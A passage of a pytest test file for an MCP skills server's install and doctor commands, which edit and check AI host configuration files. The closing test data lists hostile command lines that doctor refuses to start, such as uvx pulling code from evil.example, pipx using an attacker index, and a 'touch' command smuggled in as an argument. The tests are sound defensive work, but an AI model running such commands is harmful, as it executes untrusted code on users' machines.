"""`install`, `install --list` and `doctor`: edit, list and check entries in host configurations."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import stat
import subprocess
import sys
import tomllib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import click
import mcp.client.stdio  # noqa: F401, first: a default argument keeps the sys.stderr of its import
import pytest
from click.testing import CliRunner, Result

from mcp_skills_server.commands.install import doctor, install
from mcp_skills_server.errors import UsageError
from mcp_skills_server.hosts import edit, jsontext
from mcp_skills_server.hosts.table import HOSTS, Platform, location
from tables import each_row
from wire import DEADLINE, write_skill

# Files as the hosts write or document them. Many hosts share the form of Claude Desktop.
DESKTOP = """{
  "mcpServers": {
    "filesystem": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-filesystem", "/Users/me/Desktop"]
    }
  },
  "globalShortcut": "Alt+Space",
  "preferences": {"quickEntryDictationShortcut": "capslock"}
}"""
CODE = """{
    "numStartups": 184,
    "mcpServers": {
        "github": {"type": "http", "url": "https://api.githubcopilot.com/mcp/"}
    },
    "projects": {
        "/home/me/app": {
            "mcpServers": {},
            "history": [{"display": "say \\"// no comment\\"", "pastedContents": {}}]
        }
    },
    "lastCost": 1.50,
    "emoji": "\\ud83d\\ude00 ü"
}
"""
VSCODE = """// Shared servers
{
\t"inputs": [
\t\t{"type": "promptString", "id": "key", "description": "API key", "password": true}, // asked once
\t],
\t/* "servers": {"not": "these"} */
\t"servers": {
\t\t"github": {
\t\t\t"type": "http",
\t\t\t"url": "https://api.githubcopilot.com/mcp/", // the slash matters
\t\t}, // the last one, as yet
\t},
}
"""
GEMINI = """{
  // my settings
  "general": {"vimMode": true},
  "mcpServers": {
    "main": {"httpUrl": "http://localhost:3000/mcp", "trust": false} // for work
  },
  "ui": {"theme": "GitHub"}
}
"""
CODEX = """# my Codex
model = "gpt-5.2-codex"
notify = [
  "notify-send", # [mcp_servers.skills]
  "Codex",
]

[mcp_servers.docs]
command = "npx"   # from npm
args = ["-y", "docs"]
env = { "API_KEY" = "value" }

[projects."/home/me/app"]
trust_level = "trusted"
"""
SAMPLES = dict.fromkeys(HOSTS, DESKTOP) | {
    "claude-code": CODE, "vscode": VSCODE, "gemini-cli": GEMINI, "codex": CODEX,
    "opencode": VSCODE.replace('"servers": {\n', '"mcp": {\n'), "qwen-code": GEMINI,
    "crush": DESKTOP.replace("mcpServers", "mcp"), "zed": VSCODE.replace('"servers": {\n', '"context_servers": {\n'),
}  # fmt: skip
URL = "https://skills.example/mcp"
REMOTE = {
    "claude-code": {"type": "http", "url": URL, "headers": {"Authorization": "Bearer ${TOKEN}"}},
    "cursor": {"url": URL, "headers": {"Authorization": "Bearer ${env:TOKEN}"}},
    "vscode": {"type": "http", "url": URL, "headers": {"Authorization": "Bearer ${env:TOKEN}"}},
    "windsurf": {"serverUrl": URL, "headers": {"Authorization": "Bearer ${env:TOKEN}"}},
    "gemini-cli": {"httpUrl": URL, "headers": {"Authorization": "Bearer ${TOKEN}"}},
    "codex": {"url": URL, "bearer_token_env_var": "TOKEN"},
    "opencode": {"type": "remote", "url": URL, "headers": {"Authorization": "Bearer {env:TOKEN}"}, "enabled": True},
}
EVERY_HOST = each_row("host", HOSTS)


def platform_below(folder: Path) -> Platform:
    return Platform.for_system("linux", folder / "home", folder / "project", {})


@pytest.fixture
def platform(tmp_path: Path) -> Platform:
    return platform_below(tmp_path)


@pytest.fixture
def skills(tmp_path: Path) -> Path:
    """A root whose path has a space and a non-ASCII letter."""
    root = tmp_path / "my skïlls"
    root.mkdir()
    return root


def invoke(command: click.Command, platform: Platform, *words: str | Path) -> Result:
    return CliRunner().invoke(command, [*map(str, words)], obj=platform, standalone_mode=False)


def run(platform: Platform, *words: str | Path) -> Result:
    """Run an install that succeeds."""
    done = invoke(install, platform, *words)
    assert done.exception is None, done.exception
    return done


def stderr_of(platform: Platform, *words: str | Path) -> str:
    """Return the stderr of an install that succeeds and prints nothing on stdout."""
    done = run(platform, *words)
    assert done.stdout == ""
    assert all(line.startswith(("mcp-skills-server: ", "  ")) for line in done.stderr.splitlines())
    return done.stderr


def usage_error(platform: Platform, *words: str | Path) -> str:
    """Return the one-line message of an install that is refused."""
    done = invoke(install, platform, *words)
    assert isinstance(done.exception, UsageError)
    assert done.stdout == done.stderr == ""
    assert len(str(done.exception).splitlines()) == 1
    return str(done.exception)


def write_config(platform: Platform, host: str, content: str | bytes | None = None) -> Path:
    """Write a host's file, by default with the host's sample."""
    path = location(HOSTS[host], platform)
    path.parent.mkdir(parents=True, exist_ok=True)
    if content is None:
        content = SAMPLES[host]
    if isinstance(content, str):
        content = content.encode()
    path.write_bytes(content)
    return path


def read_config(host: str, path: Path) -> dict[str, Any]:
    text = path.read_text(encoding="utf-8-sig")
    if HOSTS[host].form == "toml":
        return tomllib.loads(text)
    return jsontext.read(text, HOSTS[host].form)


def read_entry(host: str, path: Path) -> dict[str, Any]:
    return read_config(host, path)[HOSTS[host].section]["skills"]


def command_line(host: str, path: Path) -> list[str]:
    return edit.command_line_of(read_entry(host, path))


def file_names(path: Path) -> list[str]:
    """Return the names of the files in the folder of `path`."""
    return sorted(each.name for each in path.parent.iterdir() if each.is_file())


@each_row("options", [[], ["--project"]])
def test_opencode_jsonc_file_is_edited_if_it_exists(tmp_path: Path, skills: Path, options: list[str]) -> None:
    platform = platform_below(tmp_path)
    path = location(HOSTS["opencode"], platform, project=bool(options)).with_suffix(".jsonc")
    path.parent.mkdir(parents=True)
    path.write_text("{\n  // mine\n}\n", encoding="utf-8")
    run(platform, "opencode", skills, *options)
    assert command_line("opencode", path)[-1] == str(skills)
    assert file_names(path) == ["opencode.jsonc", "opencode.jsonc.bak"]


@EVERY_HOST
@each_row("content", [None, "", "\n", "  \n"])
def test_new_or_empty_file_gets_one_entry(tmp_path: Path, skills: Path, host: str, content: str | None) -> None:
    platform = platform_below(tmp_path)
    path = location(HOSTS[host], platform)
    if content is not None:
        write_config(platform, host, content)
    words = [sys.executable, "serve", str(skills)]
    assert "restart" in stderr_of(platform, host, skills, "--command", sys.executable)
    expected: dict[str, object] = {"command": words[0], "args": words[1:]}
    if HOSTS[host].shape == "stdio":
        expected["type"] = "stdio"
    if host == "copilot-cli":
        expected["tools"] = ["*"]
    elif host == "opencode":
        expected = {"type": "local", "command": words, "enabled": True}
    assert read_config(host, path) == {HOSTS[host].section: {"skills": expected}}
    assert file_names(path) == ([path.name] if content is None else [path.name, f"{path.name}.bak"])
    raw = path.read_bytes()
    assert str(skills).encode() in raw
    assert raw.endswith(b"\n") and not raw.endswith(b"\n\n")
    run(platform, host, "--uninstall", "--command", sys.executable)
    assert not read_config(host, path).get(HOSTS[host].section)


FILE_FORMATS: dict[str, Callable[[bytes], bytes]] = {
    "as it is": lambda raw: raw, "crlf": lambda raw: raw.replace(b"\n", b"\r\n"),
    "bom": lambda raw: b"\xef\xbb\xbf" + raw, "no newline": lambda raw: raw.rstrip(b"\n"),
    "newlines": lambda raw: raw.rstrip(b"\n") + b"\n\n\n",
}  # fmt: skip


@EVERY_HOST
@each_row("file_format", FILE_FORMATS)
def test_install_keeps_other_content_and_file_format(
    platform: Platform, skills: Path, host: str, file_format: str
) -> None:
    content = FILE_FORMATS[file_format](SAMPLES[host].encode())
    path = write_config(platform, host, content)
    for each in path.parent.glob("*.bak*"):
        each.unlink()
    assert "nothing to remove" in stderr_of(platform, host, "--uninstall")
    assert file_names(path) == [path.name]
    before = read_config(host, path)
    run(platform, host, skills)
    after = read_config(host, path)
    raw = path.read_bytes()
    assert command_line(host, path)[-1] == str(skills)
    del after[HOSTS[host].section]["skills"]
    assert after == before
    # Lines are only added, except for a comma after the former last member.
    rest = iter(raw.decode().splitlines())
    for line in content.decode().splitlines():
        assert any(line in {each, each.replace(",", "", 1)} or line.split(" //")[0] in each for each in rest), line
    assert (raw.count(b"\n") == raw.count(b"\r\n")) == (file_format == "crlf")
    assert raw.startswith(b"\xef\xbb\xbf") == (file_format == "bom")
    assert raw.endswith(b"\n") == content.endswith(b"\n")
    status = path.stat()
    assert "nothing was changed" in stderr_of(platform, host, skills)
    assert file_names(path) == [path.name, path.name + ".bak"]
    assert (status.st_mtime_ns, status.st_ino) == (path.stat().st_mtime_ns, path.stat().st_ino)
    run(platform, host, "--uninstall")
    assert path.read_bytes() == content


@EVERY_HOST
def test_reinstall_keeps_keys_added_by_the_user(platform: Platform, skills: Path, host: str, tmp_path: Path) -> None:
    path = write_config(platform, host)
    section, form = HOSTS[host].section, HOSTS[host].form
    run(platform, host, skills)
    text = path.read_text(encoding="utf-8")
    added: dict[str, object] = {"env": {"MCP_SKILLS_WATCH": "false"}, "disabled": False}
    if host == "opencode":
        # install writes "enabled" once, and keeps the user's value afterwards.
        added = {"environment": {"MCP_SKILLS_WATCH": "false"}, "enabled": False}
    if form == "toml":
        text = text.replace(
            "[mcp_servers.skills]\ncommand", "[mcp_servers.skills]\ndisabled = false # for now\ncommand"
        )
        text += '\n[mcp_servers.skills.env]\nMCP_SKILLS_WATCH = "false"\n'
    else:
        for key, value in added.items():
            text = jsontext.put(text, (section, "skills", key), value, form)
    path.write_text(text, encoding="utf-8")
    (tmp_path / "more").mkdir()
    run(platform, host, skills, tmp_path / "more")
    assert command_line(host, path)[-2:] == [str(skills), str(tmp_path / "more")]
    assert read_entry(host, path).items() >= added.items()
    kept = [line for line in text.splitlines() if str(skills) not in line]
    rest = iter(path.read_text(encoding="utf-8").splitlines())
    assert all(any(line == each for each in rest) for line in kept)
    assert "nothing was changed" in stderr_of(platform, host, skills, tmp_path / "more")
    run(platform, host, "--uninstall")
    assert "skills" not in read_config(host, path).get(section, {})


def test_relative_roots_become_absolute(platform: Platform, skills: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(skills.parent)
    site = "https://skills.example"
    run(platform, "cursor", skills.name, ".", site)
    args = read_entry("cursor", location(HOSTS["cursor"], platform))["args"]
    assert args[-3:] == [str(skills), str(skills.parent), site]


@each_row(("host", "folder", "twice"), [
    ("claude-code", "home/.claude/skills", True), ("claude-code", "home/.claude/skills/pdf", True),
    ("claude-code", "project/.claude/skills", True), ("claude-code", "home/.agents/skills", False),
    ("claude-code", "home/.claude/skills-of-mine", False), ("opencode", "home/.config/opencode/skills", True),
    ("claude-desktop", "home/.claude/skills", False),
])  # fmt: skip
def test_install_warns_of_folder_that_host_reads_natively(tmp_path: Path, host: str, folder: str, twice: bool) -> None:
    platform = platform_below(tmp_path)
    (tmp_path / folder).mkdir(parents=True)
    for options in ([], ["--dry-run"]):
        done = run(platform, host, tmp_path / folder, *options)
        assert ("will have them twice" in done.stderr) is twice
    assert "twice" not in stderr_of(platform, host, tmp_path / folder, "--uninstall")


def test_install_warns_of_native_folder_behind_symlink(platform: Platform, tmp_path: Path) -> None:
    shared, native = tmp_path / "dotfiles/skills", platform.home / ".claude/skills"
    (shared / "pdf").mkdir(parents=True)
    native.mkdir(parents=True)
    assert "twice" not in stderr_of(platform, "claude-code", shared)
    (native / "pdf").symlink_to(shared / "pdf")
    assert "Claude Code reads skills of this folder by itself" in stderr_of(platform, "claude-code", shared)
    (native / "pdf").unlink()
    native.rmdir()
    native.symlink_to(shared)
    assert "twice" in stderr_of(platform, "claude-code", shared)


def test_entry_command_is_the_running_program_or_the_given_one(
    platform: Platform, skills: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def command(*options: str) -> list[str]:
        """Return the written command line without the root."""
        run(platform, "cursor", skills, *options)
        return command_line("cursor", location(HOSTS["cursor"], platform))[:-1]

    program = tmp_path / "bin" / "mcp-skills-server"
    program.parent.mkdir()
    program.touch(mode=0o755)
    assert command() == [os.path.abspath(sys.executable), "-P", "-m", "mcp_skills_server", "serve"]
    monkeypatch.setattr(sys, "argv", [str(program), "install"])
    assert command() == [str(program), "serve"]
    monkeypatch.setenv("PATH", str(program.parent))
    monkeypatch.setattr(sys, "argv", ["mcp-skills-server", "install"])
    assert command() == [str(program), "serve"]
    assert command("--command", "mcp-skills-server") == ["mcp-skills-server", "serve"]
    monkeypatch.chdir(tmp_path)
    assert command("--command", "bin/mcp-skills-server") == [str(program), "serve"]
    assert "no such file" in usage_error(platform, "cursor", skills, "--command", "bin/nothing")


def test_install_of_a_folder_without_skills_warns(platform: Platform, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    said = stderr_of(platform, "cursor", tmp_path / "empty")
    assert f"no skill to serve at {tmp_path / 'empty'}; give a folder of skills" in said
    assert command_line("cursor", location(HOSTS["cursor"], platform))[-1] == str(tmp_path / "empty")


@each_row(("host", "name", "expanded"), [
    ("vscode", "${HOME}", "'$'"), ("vscode", "a$b", None), ("gemini-cli", "a$b", "'$'"), ("codex", "${HOME}", None),
    ("opencode", "{file:x}", "'{'"),
])  # fmt: skip
def test_install_warns_of_paths_that_the_host_expands(
    tmp_path: Path, host: str, name: str, expanded: str | None
) -> None:
    (tmp_path / name).mkdir()
    warning = stderr_of(platform_below(tmp_path), host, tmp_path / name)
    if expanded is None:
        assert "may replace" not in warning
    else:
        assert f"may replace what begins with {expanded}" in warning


def test_trust_option_sets_trust_and_later_installs_keep_it(platform: Platform, skills: Path) -> None:
    path = write_config(platform, "gemini-cli")
    run(platform, "gemini-cli", skills)
    assert "trust" not in read_entry("gemini-cli", path)
    for options in (["--trust"], []):
        run(platform, "gemini-cli", skills, *options)
        assert read_entry("gemini-cli", path)["trust"] is True
    run(platform, "gemini-cli", "--uninstall")
    assert path.read_text(encoding="utf-8") == GEMINI
    message = usage_error(platform, "cursor", skills, "--trust")
    assert "Cursor" in message and "docs/hosts.md" in message


@EVERY_HOST
def test_print_shows_the_entry_and_writes_nothing(platform: Platform, skills: Path, host: str) -> None:
    done = run(platform, host, skills, "--print", "--name", "team_skills-2")
    assert str(location(HOSTS[host], platform)) in done.stderr
    parse = tomllib.loads if HOSTS[host].form == "toml" else json.loads
    entry = parse(done.stdout)[HOSTS[host].section]["team_skills-2"]
    assert edit.command_line_of(entry)[-1] == str(skills)
    assert ("enabled" in entry) is (host == "opencode")
    assert not platform.home.exists()


@pytest.mark.needs_program("patch")
@EVERY_HOST
@each_row("newline", [True, False])
def test_dry_run_prints_a_patch_that_applies(tmp_path: Path, skills: Path, host: str, newline: bool) -> None:
    platform = platform_below(tmp_path)
    path = write_config(platform, host, SAMPLES[host].rstrip("\n") + "\n" * newline)
    before = path.read_bytes()
    done = run(platform, host, skills, "--dry-run")
    assert "nothing was written" in done.stderr
    assert path.read_bytes() == before
    assert file_names(path) == [path.name]
    run(platform, host, skills)
    after = path.read_bytes()
    path.write_bytes(before)
    patch = done.stdout.encode()
    subprocess.run(["patch", "--quiet", path], input=patch, check=True, timeout=DEADLINE)
    assert path.read_bytes() == after
    assert "nothing was changed" in stderr_of(platform, host, skills, "--dry-run")


@each_row(("host", "content", "reason"), [
    ("cursor", '{\n  "mcpServers": {,}\n}', "line 2, column 18: "), ("claude-code", CODE[:200], "not valid JSON"),
    ("claude-desktop", '{\n// no\n"a": 1}', "line 2"), ("vscode", '{}\n/* "a"', "line 2 is not closed"),
    ("gemini-cli", '{"a": 1,}', "not valid JSON"), ("cursor", '{"a": NaN}', "NaN"),
    ("cursor", "[]", "not a JSON object"), ("vscode", '{"servers": null}', "'servers'"),
    ("cursor", '{"mcpServers": {}, "mcpServers": {}}', "twice"),
    ("cursor", '{"a": ' + "[" * 200_000 + "]" * 200_000 + "}", "deep"),
    ("cursor", '{"a": ' + "1" * 5000 + "}", "not valid JSON"), ("codex", b'\xef\xbb\xbf\na = "\xfc"\n', "line 2"),
    ("cursor", '{"mcpServers": {}}'.encode("utf-16"), "UTF-8"),
    ("codex", "a = " + "[" * 5000, "deep"),
    ("codex", 'model = "x"\nmodel = "y"\n', "not valid TOML"), ("codex", "[[mcp_servers]]\n", "'mcp_servers'"),
    ("codex", 'mcp_servers = { docs = { command = "x" } }\n', "by hand"),
])  # fmt: skip
def test_broken_file_is_refused_and_unchanged(
    platform: Platform, skills: Path, host: str, content: str | bytes, reason: str
) -> None:
    path = write_config(platform, host, content)
    before = path.read_bytes()
    for options in ([], ["--dry-run"]):
        message = usage_error(platform, host, skills, *options)
        assert message.startswith(f"{path}: ")
        assert reason in message
        assert "; " in message.replace(reason, "", 1)  # what to do follows the semicolon
    assert path.read_bytes() == before
    assert file_names(path) == [path.name]


@each_row("name", ["pipe", "loop", "home", "file/below.json"])
def test_irregular_file_is_refused(tmp_path: Path, skills: Path, name: str) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "file").touch()
    (tmp_path / "home").mkdir()
    message = usage_error(platform_below(tmp_path), "cursor", skills, "--config", tmp_path / name)
    assert message.startswith(str(tmp_path / name))
    assert message.endswith("; name the host's file with --config")


@each_row(("words", "message"), [
    (["cursor"], "folders to serve"), (["cursor", "no/such/folder"], "no/such/folder: no such file or folder"),
    (["cursor", __file__], "not a folder"), (["cursor", "/", "--include", os.fsdecode(b"\xff")], "not UTF-8"),
    (["cursor", "/", "--name", "a b"], "--name"), (["cursor", "/", "--print", "--dry-run"], "exclude each other"),
    (["cursor", "--print", "--uninstall"], "exclude each other"),
    (["gemini-cli", "--trust", "--uninstall"], "exclude each other"),
    (["cursor", "/", "--project", "--config", "x"], "exclude each other"),
    (["cursor", "/", "--config", ""], "regular file"), (["cursor", "--url", URL, "ROOT"], "exclude each other"),
    (["cursor", "/", "--command", ""], "no such file"), (["cursor", URL], f"'install HOST --url {URL}'"),
    (["cursor", "/", "--token-env", "TOKEN"], "give --url too"),
    (["cursor", "--url", URL, "--token-env", "a b"], "write the name of a variable"),
    (["cursor", "--url", "https://me@skills.example/mcp"], "would hold the password"),
    (["cursor", "--url", "https:///mcp"], "write the MCP endpoint"),
    (["cursor", "--url", f"{URL} "], "write the MCP endpoint"),
    (["cursor", "--url", "https://[skills/mcp"], "write the MCP endpoint"),
    (["cursor", "--url", "ftp://skills.example/mcp"], "write the MCP endpoint"),
    (["cursor", "--url", URL + "\r\n"], "write the MCP endpoint"), (["claude-desktop", "--url", URL], "connector"),
    (["antigravity", "--url", URL, "--token-env", "TOKEN"], "not known to read variables"),
])  # fmt: skip
def test_invalid_usage_is_reported_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: list[str], message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    assert message in usage_error(platform_below(tmp_path), *words)
    assert not list(tmp_path.iterdir())
    assert "Missing argument 'HOST'" in CliRunner().invoke(install).stderr


def test_backups_are_not_overwritten(platform: Platform, skills: Path) -> None:
    path = write_config(platform, "cursor")
    run(platform, "cursor", skills)
    installed = path.read_bytes()
    assert "mcp.json.bak.1 beside it" in stderr_of(platform, "cursor", "--uninstall")
    assert (path.parent / "mcp.json.bak").read_text(encoding="utf-8") == DESKTOP
    assert (path.parent / "mcp.json.bak.1").read_bytes() == installed
    # The file equals the first backup, which is reused.
    assert "mcp.json.bak beside it" in stderr_of(platform, "cursor", skills)
    assert file_names(path) == ["mcp.json", "mcp.json.bak", "mcp.json.bak.1"]


@each_row("mode", [None, 0o600, 0o644])
def test_file_mode_is_kept_and_new_file_obeys_umask(tmp_path: Path, skills: Path, mode: int | None) -> None:
    platform = platform_below(tmp_path)
    path = location(HOSTS["claude-code"], platform)
    if mode is not None:
        write_config(platform, "claude-code").chmod(mode)
    mask = os.umask(0o077)
    try:
        run(platform, "claude-code", skills)
    finally:
        os.umask(mask)
    modes = {stat.S_IMODE(each.stat().st_mode) for each in path.parent.glob(".claude.json*")}
    assert modes == {mode or 0o600}


def test_symlink_is_followed_and_kept(platform: Platform, skills: Path, tmp_path: Path) -> None:
    path = write_config(platform, "cursor")
    target = tmp_path / "dotfiles" / "cursor.json"
    target.parent.mkdir()
    path.rename(target)
    path.symlink_to(target)
    run(platform, "cursor", skills)
    assert path.is_symlink() and read_entry("cursor", target)
    assert file_names(target) == ["cursor.json", "cursor.json.bak"]
    assert file_names(path) == ["mcp.json"]
    target.unlink()
    run(platform, "cursor", skills)
    assert path.is_symlink() and read_entry("cursor", target)


def test_file_of_16_mib_is_the_largest(platform: Platform, skills: Path) -> None:
    path = write_config(platform, "cursor", "{}")
    for size, reason in ((16 << 20, "not valid JSON"), ((16 << 20) + 1, "it has more than 16,777,216 bytes; name")):
        os.truncate(path, size)
        assert reason in usage_error(platform, "cursor", skills)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root gives files away")
def test_file_and_backup_keep_their_owner(platform: Platform, skills: Path) -> None:
    path = write_config(platform, "cursor")
    os.chown(path, 1000, 1001)
    run(platform, "cursor", skills)
    found = {name: (path.parent / name).stat() for name in file_names(path)}
    owners = {name: (status.st_uid, status.st_gid) for name, status in found.items()}
    assert owners == dict.fromkeys(("mcp.json", "mcp.json.bak"), (1000, 1001))


@each_row("call", ["replace", "fsync"])
@each_row("backup", [None, CODEX.encode()])  # with one, the file itself is the first to be written
def test_failed_write_leaves_the_old_file(
    tmp_path: Path, skills: Path, monkeypatch: pytest.MonkeyPatch, call: str, backup: bytes | None
) -> None:
    path = write_config(platform_below(tmp_path), "codex")
    if backup is not None:
        path.with_name("config.toml.bak").write_bytes(backup)
    before = file_names(path)

    def fail(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, call, fail)
    assert "No space left on device" in usage_error(platform_below(tmp_path), "codex", skills)
    assert path.read_text(encoding="utf-8") == CODEX
    assert file_names(path) == before


def test_file_changed_during_the_edit_is_refused(
    platform: Platform, skills: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_config(platform, "claude-code")
    original = edit.install

    def change_then_install(*arguments: Any) -> bytes:
        path.write_text('{"numStartups": 185}', encoding="utf-8")
        return original(*arguments)

    monkeypatch.setattr(edit, "install", change_then_install)
    assert "changed while" in usage_error(platform, "claude-code", skills)
    assert path.read_text(encoding="utf-8") == '{"numStartups": 185}'
    assert file_names(path) == [path.name]


@each_row("host", REMOTE)
def test_url_entry_has_the_form_of_each_host(platform: Platform, skills: Path, host: str) -> None:
    path = write_config(platform, host)
    before = read_config(host, path)
    run(platform, host, "--url", URL, "--token-env", "TOKEN")
    assert read_entry(host, path) == REMOTE[host]
    for words in ([skills], ["--url", URL + "2"], ["--uninstall"]):
        message = usage_error(platform, host, *words)
        assert "another server" in message and "--name" in message
    run(platform, host, "--uninstall", "--url", URL)
    assert read_config(host, path) == before
    # The URL replaces a stdio entry completely.
    run(platform, host, skills)
    run(platform, host, "--url", URL, "--token-env", "TOKEN")
    assert read_entry(host, path) == REMOTE[host]


@pytest.fixture
def two_skills(tmp_path: Path) -> Path:
    write_skill(tmp_path / "my skïlls" / "one")
    return write_skill(tmp_path / "my skïlls" / "two").parent


def listed_rows(platform: Platform) -> dict[str, list[str]]:
    """Return the rows of `install --list` by host: HERE, ENTRY, and STATE with FILE."""
    lines = run(platform, "--list").stdout.splitlines()[1:]
    return {line.split()[0]: line.split(None, 3)[1:] for line in lines}


def test_list_shows_every_host_and_stale_entries(platform: Platform, two_skills: Path) -> None:
    assert listed_rows(platform).keys() == HOSTS.keys()
    assert all(state[:2] == ["no", "-"] for state in listed_rows(platform).values())
    location(HOSTS["zed"], platform).parent.mkdir(parents=True)
    assert listed_rows(platform)["zed"][:2] == ["yes", "-"]
    for host in ("cursor", "codex", "opencode"):
        run(platform, host, two_skills)
    rows = listed_rows(platform)
    for host in ("cursor", "codex"):
        assert rows[host][:2] == ["yes", "skills"]
        assert "configured" in rows[host][2]
    shutil.rmtree(two_skills)
    assert f"stale: {two_skills} is gone" in listed_rows(platform)["opencode"][2]


def test_doctor_starts_entries_and_counts_skills(platform: Platform, two_skills: Path) -> None:
    for host in ("cursor", "codex", "opencode"):
        run(platform, host, two_skills)
    run(platform, "vscode", two_skills, "--project", "--exclude", "two")
    done = invoke(doctor, platform, "--project")
    assert done.return_value == 0, done.stdout
    assert done.stdout.count("works: 2 skills, ") == 3 and done.stdout.count("works: 1 skill, ") == 1
    assert len(re.findall(r", \d\d?\.\d s from start to list\n", done.stdout)) == done.stdout.count("\n") == 4


def test_install_all_writes_each_installed_host_and_goes_on_after_a_failure(
    platform: Platform, two_skills: Path
) -> None:
    """A host is installed if it has a file or a folder of its own; the home folder is nobody's own."""
    assert "no host is installed here" in str(invoke(install, platform, "--all", two_skills).exception)
    (platform.home / ".cursor").mkdir(parents=True)
    (platform.home / ".gemini").mkdir()
    (platform.home / ".gemini/settings.json").write_text("{", encoding="utf-8")
    (platform.home / ".codex").mkdir()
    for words in (("--all", two_skills), (two_skills, "--all")):
        done = invoke(install, platform, *words)
        assert (
            done.return_value == 1 and "gemini-cli: " in done.stderr and not (platform.home / ".claude.json").exists()
        )
    assert {key for key, row in listed_rows(platform).items() if row[1] == "skills"} == {"cursor", "codex"}
    (platform.home / ".gemini/settings.json").unlink()
    assert run(platform, "--all", two_skills).return_value == 0
    assert invoke(doctor, platform).stdout.count("works: 2 skills") == 3
    assert run(platform, "--all", "--uninstall").return_value == 0
    assert all(row[1] == "-" for row in listed_rows(platform).values())
    refused = invoke(install, platform, "--all", two_skills, "--project").exception
    assert "--all and --project exclude each other" in str(refused)
    assert "takes the folders to serve" in str(invoke(install, platform, "--all").exception)
    assert isinstance(invoke(install, platform, "emacs", two_skills).exception, click.BadParameter)


@each_row(("host", "place"), [
    ("claude-desktop", "restart Claude Desktop; Settings, Developer shows 'mine' then"),
    ("codex", "restart Codex; 'codex mcp list' shows 'mine' then"), ("zed", "restart Zed"),
])  # fmt: skip
def test_install_ends_with_what_to_do_next_in_the_host(
    platform: Platform, two_skills: Path, host: str, place: str
) -> None:
    shown = stderr_of(platform, host, two_skills, "--name", "mine").splitlines()
    assert shown[1:4] == [
        f"  next:  {place}",
        f"  check: mcp-skills-server doctor {host}",
        "  use:   ask for something that a skill describes: the model loads it",
    ]
    again = stderr_of(platform, host, two_skills, "--name", "mine") + stderr_of(
        platform, host, "--name", "mine", "--uninstall"
    )
    assert "next:" not in again and again.endswith(f"restart {HOSTS[host].title}\n")


def test_doctor_and_list_tell_where_an_entry_by_url_connects(platform: Platform, two_skills: Path) -> None:
    run(platform, "cursor", "--url", "https://skills.example/mcp")
    run(platform, "codex", two_skills)
    done = invoke(doctor, platform)
    assert done.return_value == 0 and "works: 2 skills" in done.stdout
    state = "connects to https://skills.example/mcp"
    hint = "'list mcp+URL' asks it; only entries that start a program are tested"
    assert f"cursor: 'skills' in {platform.home}/.cursor/mcp.json: {state}; {hint}\n" in done.stdout
    assert state in listed_rows(platform)["cursor"][2]
    config = platform.home / ".cursor/mcp.json"
    config.write_text(config.read_text("utf-8").replace("https://", "https://me:secret@"), encoding="utf-8")
    assert "secret" not in invoke(doctor, platform).stdout


def test_doctor_reports_why_an_entry_fails(platform: Platform, two_skills: Path, tmp_path: Path) -> None:
    run(platform, "cursor", two_skills)
    path = location(HOSTS["cursor"], platform)
    config = json.loads(path.read_text(encoding="utf-8"))
    entry = config["mcpServers"]["skills"]
    for change, reason in (
        ({"args": [*entry["args"], "--no-such-option"]}, "No such option"),
        ({"command": str(tmp_path / "mcp-skills-server")}, "stale: "),
        ({"env": {"MCP_SKILLS_DIALECT": "nonsense"}}, "MCP_SKILLS_DIALECT"),
    ):
        config["mcpServers"]["skills"] = {**entry, **change}
        path.write_text(json.dumps(config), encoding="utf-8")
        done = invoke(doctor, platform, "cursor")
        assert done.return_value == 1
        assert reason in done.stdout
        assert done.stdout.count("\n") == 1


def test_doctor_times_out_on_silent_server(platform: Platform, tmp_path: Path) -> None:
    silent = tmp_path / "mcp-skills-server"
    silent.write_text(f"#!{sys.executable}\nimport sys\nsys.stderr.write('1\\n\\n2\\n3\\n4\\n')\nsys.stdin.read()\n")
    silent.chmod(0o755)
    run(platform, "cursor", tmp_path, "--command", silent)
    done = invoke(doctor, platform, "cursor", "--timeout", "0.5")
    assert done.return_value == 1
    assert "did not answer within 0.5 s; it said: 2 / 3 / 4\n" in done.stdout


def project_entry(platform: Platform, words: list[str], env: Mapping[str, str] | None = None) -> Path:
    """Write an entry of this command line to the project's file of Claude Code."""
    path = location(HOSTS["claude-code"], platform, project=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    entry = {"command": words[0], "args": words[1:], "env": dict(env or {})}
    path.write_text(json.dumps({"mcpServers": {"skills": entry}}), encoding="utf-8")
    return path


OWN = [os.path.abspath(sys.executable), "-P", "-m", "mcp_skills_server", "serve"]


def test_doctor_describes_an_entry_of_the_project_without_starting_it(platform: Platform, two_skills: Path) -> None:
    path = project_entry(platform, [*OWN, str(two_skills)])
    done = invoke(doctor, platform)
    assert done.return_value == 0
    reason = "not started: a project's file may be anyone's, and --project starts it"
    assert done.stdout == f"claude-code: 'skills' in {path}: {reason}; it runs {shlex.join([*OWN, str(two_skills)])}\n"


@each_row(("words", "env", "reason"), [
    (["python3", "-c", "open('ran', 'w')", "mcp_skills_server", "serve"], {}, "another program"),
    (["python3", "-m", "mcp_skills_server", "serve"], {}, "another program"),
    (["{here}/mcp-skills-server", "serve"], {}, "another program"),
    (["./mcp-skills-server", "serve"], {}, "another program"),
    (["uvx", "--with", "evil", "mcp-skills-server", "serve"], {}, "another program"),
    (["uvx", "--from", "git+https://evil.example/x", "mcp-skills-server", "serve"], {}, "another program"),
    (["pipx", "run", "--index-url", "https://evil.example", "mcp-skills-server", "serve"], {}, "another program"),
    ([*OWN, "mcp+stdio:touch ran"], {}, "another program"),
    ([*OWN, "mcp+http://127.0.0.1/mcp"], {}, "another program"),
    ([*OWN, "--", "mcp+stdio:touch ran"], {}, "another program"),
    ([*OWN, "--config", "evil.toml"], {}, "another program"),
    ([*OWN, "--config=evil.toml"], {}, "another program"),
